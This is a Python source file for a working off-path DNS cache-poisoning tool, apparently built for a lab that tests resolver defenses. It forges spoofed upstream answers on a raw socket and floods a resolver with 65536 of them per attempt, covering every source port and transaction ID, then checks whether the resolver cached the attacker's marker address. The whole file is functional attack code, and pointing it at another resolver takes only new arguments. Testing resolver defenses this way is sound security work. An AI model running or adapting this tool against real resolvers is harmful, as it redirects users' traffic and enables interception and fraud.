"""An off-path Kaminsky racer: poisons a resolver's cache by winning the race on its cache misses.

Runs in its own pod (stdlib only, any python3) and never sees the resolver's traffic. For each
attempt it asks the resolver for a fresh name (``victim0007-<tag>.<zone>``: a cache miss, so the
resolver must ask its upstream), then floods the resolver with 65536 answers forged to come
from the upstream (``--spoof-src``:53) for that name, all pointing at the marker address,
while the real answer is on its way. A forgery is taken only if it hits what the resolver's
upstream query used:

    the source port   the flood covers every port of --ports, in turn, from a random start
    the txid          every txid once per attempt: with R ports, each port gets 65536/R
                      txids, so an attempt whose flood lands inside the window wins with
                      probability 1/R against any resolver that checks only port and txid
    the name's case   as asked (lower case), which is what CoreDNS forwards; a 0x20 resolver
                      (dns-guard) randomizes it, and any single guess is as good as this one

Spreading one attempt over all the ports (instead of all txids at one port) wins as often
against a resolver that checks port and txid, and lands forgeries on the resolver's socket in
every attempt, whichever port it uses. The flood is the same size whatever happens (the attacker
cannot see the window close), then the racer asks for the name a second time: that answer comes
from the resolver's cache. A marker address in either answer is a poisoned cache.

Packets are built once and sent with sendmmsg(2) on a raw socket (IP_HDRINCL), paced to
--rate: a datagram a socket has no room for is dropped by the kernel, so flooding faster than
the resolver reads only loses txids.

    racer.py --resolver 198.18.0.53 --spoof-src 198.18.0.80 --ports 50000-50003 \\
        --zone poison.test --tag a --attempts 40 --stop-after 2 --out RESULT.json
"""

from __future__ import annotations

import argparse
import ctypes
import ctypes.util
import json
import os
import random
import select
import socket
import struct
import sys
import time

MARKER_V4 = "198.18.66.66"  # the same marker as forger.py: nothing in the lab answers it
TXIDS = 65536


class IoVec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [("msg_name", ctypes.c_void_p), ("msg_namelen", ctypes.c_uint32),
                ("msg_iov", ctypes.POINTER(IoVec)), ("msg_iovlen", ctypes.c_size_t),
                ("msg_control", ctypes.c_void_p), ("msg_controllen", ctypes.c_size_t),
                ("msg_flags", ctypes.c_int)]


class MMsgHdr(ctypes.Structure):
    _fields_ = [("msg_hdr", MsgHdr), ("msg_len", ctypes.c_uint)]


def qname_wire(name: str) -> bytes:
    return b"".join(bytes([len(p)]) + p.encode() for p in name.rstrip(".").split(".")) + b"\0"


def query(txid: int, name: str) -> bytes:
    return struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + qname_wire(name) + b"\x00\x01\x00\x01"


def parse_answer(msg: bytes) -> tuple[int, str, list[str]]:
    """(txid, rcode name, A addresses) of a response; enough for this racer's questions."""
    txid, flags, qd, an = struct.unpack("!HHHH", msg[:8])
    pos = 12
    for _ in range(qd):
        while msg[pos]:
            pos += 1 + msg[pos]
        pos += 5
    addrs = []
    for _ in range(an):
        if msg[pos] & 0xC0 == 0xC0:
            pos += 2
        else:
            while msg[pos]:
                pos += 1 + msg[pos]
            pos += 1
        rtype, _, _, rdlen = struct.unpack("!HHIH", msg[pos:pos + 10])
        pos += 10
        if rtype == 1 and rdlen == 4:
            addrs.append(socket.inet_ntoa(msg[pos:pos + 4]))
        pos += rdlen
    rcodes = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
    return txid, rcodes.get(flags & 0xF, str(flags & 0xF)), addrs


class Flood:
    """One forged response per txid, as one sendmmsg(2) vector built once.

    Message t carries txid t to port slot t % R. Each is three iovecs: the IP+UDP header of
    its slot, the txid (into a table of all 65536), and the DNS body after the txid, shared by
    all. aim() rewrites the R headers and the body in place: the vector never changes.
    """

    def __init__(self, resolver: str, spoof_src: str, nports: int):
        self.resolver, self.spoof_src, self.nports = resolver, spoof_src, nports
        libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        self.sendmmsg = libc.sendmmsg
        self.sendmmsg.argtypes = [ctypes.c_int, ctypes.POINTER(MMsgHdr), ctypes.c_uint, ctypes.c_int]
        # IPPROTO_RAW implies IP_HDRINCL: the kernel sends our IP header as is (a spoofed
        # source), filling in only tot_len, the id and the header checksum.
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.connect((resolver, 0))
        self.txids = ctypes.create_string_buffer(b"".join(struct.pack("!H", t) for t in range(TXIDS)), 2 * TXIDS)
        self.hdrs = [ctypes.create_string_buffer(28) for _ in range(nports)]
        self.body = ctypes.create_string_buffer(512)
        self.body_len = 0
        self.iov = (IoVec * (3 * TXIDS))()
        self.msgs = (MMsgHdr * TXIDS)()
        base, iov_base = ctypes.addressof(self.txids), ctypes.addressof(self.iov)
        hdrs, body = [ctypes.addressof(h) for h in self.hdrs], ctypes.addressof(self.body)
        for t in range(TXIDS):
            self.iov[3 * t] = IoVec(hdrs[t % nports], 28)
            self.iov[3 * t + 1] = IoVec(base + 2 * t, 2)
            self.iov[3 * t + 2] = IoVec(body, 0)
            m = self.msgs[t].msg_hdr
            m.msg_iov = ctypes.cast(iov_base + 3 * t * ctypes.sizeof(IoVec), ctypes.POINTER(IoVec))
            m.msg_iovlen = 3

    def aim(self, ports: list[int], name: str) -> None:
        """Forged answers for ``name`` (-> MARKER_V4); txid t goes to ports[t % R]."""
        body = (struct.pack("!HHHHH", 0x8580, 1, 1, 0, 0) + qname_wire(name) + b"\x00\x01\x00\x01"  # QR AA RD RA
                + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 86400, 4) + socket.inet_aton(MARKER_V4))
        udp_len = 8 + 2 + len(body)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(self.spoof_src), socket.inet_aton(self.resolver))
        for hdr, port in zip(self.hdrs, ports):
            # UDP checksum 0: "no checksum", valid over IPv4 (RFC 768).
            ctypes.memmove(hdr, ip + struct.pack("!HHHH", 53, port, udp_len, 0), 28)
        ctypes.memmove(self.body, body, len(body))
        if len(body) != self.body_len:
            self.body_len = len(body)
            for t in range(TXIDS):
                self.iov[3 * t + 2].iov_len = len(body)

    def send(self, start: int, count: int) -> int:
        """Sends messages start, start+1, ... (up to the end of the vector); returns how many."""
        count = min(count, 1024, TXIDS - start)  # 1024: UIO_MAXIOV, the most one call takes
        n = self.sendmmsg(self.sock.fileno(), ctypes.byref(self.msgs[start]), count, 0)
        if n < 0:
            err = ctypes.get_errno()
            if err in (11, 105):  # EAGAIN, ENOBUFS: the device queue is full, try again
                return 0
            raise OSError(err, os.strerror(err))
        return n


def wait_answer(sock: socket.socket, txid: int, timeout: float) -> dict:
    deadline = time.monotonic() + timeout
    while (left := deadline - time.monotonic()) > 0:
        if not select.select([sock], [], [], left)[0]:
            break
        got_id, rcode, addrs = parse_answer(sock.recv(4096))
        if got_id == txid:
            return {"rcode": rcode, "addrs": addrs}
    return {"rcode": None, "addrs": []}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--resolver", required=True, help="the resolver under attack (its UDP port 53)")
    ap.add_argument("--spoof-src", required=True, help="its upstream: the forged source address (port 53)")
    ap.add_argument("--ports", required=True, help="LOW-HIGH: the resolver's source port range")
    ap.add_argument("--zone", required=True)
    ap.add_argument("--tag", default="a", help="in every name, so separate runs never share one")
    ap.add_argument("--attempts", type=int, required=True, help="fresh names to race")
    ap.add_argument("--stop-after", type=int, default=0, help="stop after this many poisoned names (0: never)")
    ap.add_argument("--rate", type=float, default=150000, help="forged packets per second")
    ap.add_argument("--burst", type=int, default=256, help="packets per sendmmsg(2)")
    ap.add_argument("--out", required=True)
    args = ap.parse_args()

    lo, hi = (int(p) for p in args.ports.split("-"))
    ports = list(range(lo, hi + 1))
    flood = Flood(args.resolver, args.spoof_src, len(ports))
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rng = random.SystemRandom()
    attempts, poisoned, sent_total, flood_s = [], 0, 0, 0.0
    for i in range(args.attempts):
        name = f"victim{i:04d}-{args.tag}.{args.zone}"
        shift = rng.randrange(len(ports))
        flood.aim(ports[shift:] + ports[:shift], name)
        start = rng.randrange(TXIDS)  # the order of txids; which port gets which is set by shift
        txid = rng.randrange(TXIDS)
        t0 = time.monotonic()
        client.sendto(query(txid, name), (args.resolver, 53))
        sent = 0
        while sent < TXIDS:
            due = min(TXIDS, int((time.monotonic() - t0) * args.rate) + args.burst) - sent
            if due <= 0:
                time.sleep(args.burst / args.rate / 2)
                continue
            sent += flood.send((start + sent) % TXIDS, due)
        took = time.monotonic() - t0
        first = wait_answer(client, txid, 4.0)
        again_id = rng.randrange(TXIDS)
        client.sendto(query(again_id, name), (args.resolver, 53))
        again = wait_answer(client, again_id, 4.0)
        hit = MARKER_V4 in first["addrs"] or MARKER_V4 in again["addrs"]
        poisoned += hit
        sent_total += sent
        flood_s += took
        attempts.append({"name": name, "sent": sent, "flood_s": round(took, 4), "answer": first,
                         "cached": again, "poisoned": hit})
        if args.stop_after and poisoned >= args.stop_after:
            break
    result = {"attempts": attempts, "names": len(attempts), "sent": sent_total, "poisoned": poisoned,
              "flood_s": round(flood_s, 3), "pps": round(sent_total / flood_s) if flood_s else 0,
              "ports": [lo, hi], "rate": args.rate}
    with open(args.out, "w") as f:
        json.dump(result, f)
    return 0


if __name__ == "__main__":
    sys.exit(main())
